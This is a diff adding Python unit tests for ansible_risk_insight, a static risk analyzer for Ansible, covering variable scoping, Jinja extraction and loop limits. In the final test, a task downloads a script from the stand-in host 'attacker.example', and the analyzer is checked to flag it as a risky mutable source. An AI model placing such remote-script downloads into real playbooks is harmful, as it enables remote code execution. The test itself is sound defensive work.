@@ -0,0 +1,133 @@
+# -*- mode:python; coding:utf-8 -*-
+
+# Copyright (c) 2022 IBM Corp. All rights reserved.
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#     https://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+
+from ansible_risk_insight.annotators.ansible_builtin import AnsibleBuiltinRiskAnnotator
+from ansible_risk_insight.annotators.variable_resolver import VARIABLE_ANNOTATION_TYPE
+from ansible_risk_insight.context import Context, VariableType, extract_variable_names, resolve_module_options
+from ansible_risk_insight.models import Inventory, InventoryType, Role, Task, TaskCall, TaskFile, VariableAnnotation
+
+
+def _inventory(name, variables):
+    return Inventory(name=name, inventory_type=InventoryType.GROUP_VARS_TYPE, variables=variables)
+
+
+def test_context_variable_scope():
+    inventories = [
+        _inventory("all", {"pkg_url": "https://example.com/pkg.tar.gz", "app": {"port": 8080}}),
+        _inventory("web", {"web_only": "yes"}),
+    ]
+    context = Context(inventories=inventories)
+    context.add(Role(default_variables={"user": "admin"}, variables={"conf": {"path": "/etc/app"}}), 1)
+    context.add(TaskFile(variables={"tf_var": "tf"}), 2)
+    context.add(Task(variables={"task_var": "{{ user }}"}, registered_variables={"result": "task-key"}), 3)
+
+    assert context.resolve_variable("task_var") == ("admin", VariableType.NORMAL)
+    assert context.resolve_variable("user") == ("admin", VariableType.ROLE_DEFAULTS)
+    assert context.resolve_variable("conf") == ({"path": "/etc/app"}, VariableType.ROLE_VARS)
+    assert context.resolve_variable("conf.path")[0] == "/etc/app"
+    assert context.resolve_variable("app.port") == (8080, VariableType.INVENTORY_VARS)
+    assert context.resolve_variable("web_only") == (None, VariableType.FAILED_TO_RESOLVE)
+
+    # the next task in the same taskfile does not see the previous task vars
+    context.add(Task(), 3)
+    assert context.resolve_variable("task_var") == (None, VariableType.FAILED_TO_RESOLVE)
+    assert context.resolve_variable("tf_var") == ("tf", VariableType.NORMAL)
+    assert context.resolve_variable("result")[1] == VariableType.REGISTERED_VARS
+
+    # leaving the taskfile, role vars and registered vars are still visible
+    context.add(TaskFile(), 2)
+    assert context.resolve_variable("tf_var") == (None, VariableType.FAILED_TO_RESOLVE)
+    assert context.resolve_variable("user") == ("admin", VariableType.ROLE_DEFAULTS)
+    assert context.resolve_variable("result")[1] == VariableType.REGISTERED_VARS
+
+
+def test_context_variable_shadowing():
+    context = Context()
+    context.add(TaskFile(variables={"version": "1.0"}), 1)
+    context.add(Task(variables={"version": "2.0"}), 2)
+    assert context.resolve_variable("version") == ("2.0", VariableType.NORMAL)
+    context.add(Task(), 2)
+    assert context.resolve_variable("version") == ("1.0", VariableType.NORMAL)
+
+
+def test_extract_variable_names():
+    blocks = extract_variable_names("{{ pkg | default(defaults.pkg) | lower }} --port {{ port | int }}")
+    assert blocks == [
+        {"original": "{{ pkg | default(defaults.pkg) | lower }}", "name": "pkg", "filters": ["default", "lower"], "default": "defaults.pkg"},
+        {"original": "{{ port | int }}", "name": "port", "filters": ["int"]},
+    ]
+    # constant defaults are not variable references
+    assert "default" not in extract_variable_names("{{ dest | default('/tmp') }}")[0]
+    # returned blocks are copies of the cached result
+    extract_variable_names("{{ item }}")[0]["filters"].append("dummy")
+    assert extract_variable_names("{{ item }}")[0]["filters"] == []
+
+
+def test_context_resolve_memo():
+    context = Context()
+    context.add(TaskFile(variables={"version": "1.0"}), 1)
+    assert context.resolve_variable("version") == ("1.0", VariableType.NORMAL)
+    assert context.resolve_variable("undefined_var") == (None, VariableType.FAILED_TO_RESOLVE)
+    # new bindings invalidate the memoized results
+    context.add(Task(variables={"version": "2.0", "undefined_var": "ok"}), 2)
+    assert context.resolve_variable("version") == ("2.0", VariableType.NORMAL)
+    assert context.resolve_variable("undefined_var") == ("ok", VariableType.NORMAL)
+
+
+def test_resolve_module_options_loop_limit():
+    packages = ["pkg-{}".format(i % 30) for i in range(1000)]
+    task = Task(key="task sample", loop={"item": "{{ packages }}"}, module_options={"name": "{{ item }}", "state": "present"})
+    taskcall = TaskCall.from_spec(task, None)
+    context = Context(loop_expansion_limit=20)
+    context.add(TaskFile(variables={"packages": packages}), 1)
+    context.add(taskcall, 2)
+    resolved_opts, _, _, loop_summary = resolve_module_options(context, taskcall)
+    assert len(resolved_opts) == 20
+    assert resolved_opts[0] == {"name": "pkg-0", "state": "present"}
+    assert loop_summary["total"] == 1000
+    assert loop_summary["deduplicated"] == 0
+    assert loop_summary["truncated"] == 980
+
+    context.loop_expansion_limit = 0
+    resolved_opts, _, _, loop_summary = resolve_module_options(context, taskcall)
+    assert len(resolved_opts) == 30
+    assert loop_summary["deduplicated"] == 970
+    assert loop_summary["truncated"] == 0
+
+
+def test_resolve_module_options_loop_limit_keeps_risky_items():
+    urls = ["https://example.com/pkg-{}.sh".format(i) for i in range(1000)]
+    # a url given by a mutable variable is placed after the limit
+    urls.insert(500, "{{ user_url }}")
+    module_options = {"url": "{{ item }}", "dest": "/tmp/pkg.sh"}
+    task = Task(key="task sample", loop={"item": urls}, module_options=module_options, resolved_name="ansible.builtin.get_url")
+    taskcall = TaskCall.from_spec(task, None)
+    context = Context(loop_expansion_limit=20)
+    context.add(TaskFile(variables={"user_url": "https://attacker.example/x.sh"}), 1)
+    context.add(taskcall, 2)
+    resolved_opts, _, mutable_vars_per_mo, loop_summary = resolve_module_options(context, taskcall)
+    assert len(resolved_opts) == 21
+    assert resolved_opts[-1] == {"url": "https://attacker.example/x.sh", "dest": "/tmp/pkg.sh"}
+    assert mutable_vars_per_mo == {"url": ["user_url"]}
+    assert loop_summary["truncated"] == 980
+
+    # the risk annotation of the task has the mutable variable
+    var_anno = VariableAnnotation(type=VARIABLE_ANNOTATION_TYPE, resolved_module_options=resolved_opts, mutable_vars_per_mo=mutable_vars_per_mo)
+    taskcall.annotations.append(var_anno)
+    risk_anno = AnsibleBuiltinRiskAnnotator().run(taskcall)[0]
+    assert risk_anno.data["undetermined_src"]
+    assert risk_anno.data["mutable_src_vars"] == ["user_url"]
+    assert "https://attacker.example/x.sh" in [d["src"] for d in risk_anno.resolved_data]